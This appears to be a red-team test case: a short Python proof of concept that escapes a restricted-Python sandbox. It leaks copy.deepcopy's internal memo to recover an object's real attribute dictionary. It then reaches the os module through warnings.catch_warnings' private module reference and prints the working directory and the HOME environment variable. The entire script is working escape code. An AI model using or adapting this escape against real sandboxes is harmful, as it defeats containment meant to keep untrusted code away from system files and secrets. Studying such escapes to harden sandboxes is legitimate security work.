# family: red team, round 43 (copy.deepcopy memo keep-alive list hands out an object's real __dict__)
import copy
import warnings

BOX = []


def grab(self, memo):
    BOX.append(memo)
    return self


class Grabber:
    __deepcopy__ = grab


class Watch(warnings.catch_warnings):
    def __init__(self):
        self.hook = Grabber()


w = Watch()
copy.deepcopy(w)
memo = BOX[0]
real = None
for key in memo:
    value = memo[key]
    if isinstance(value, list):
        for item in value:
            if isinstance(item, dict) and "hook" in item and item["hook"] is w.hook:
                real = item
Watch.__init__(w)  # runs catch_warnings.__init__ too? no: call the base explicitly below
warnings.catch_warnings.__init__(w)
mod = real["_module"]
print(mod)
print(mod.sys.modules["os"].getcwd())
print(mod.sys.modules["os"].environ["HOME"])
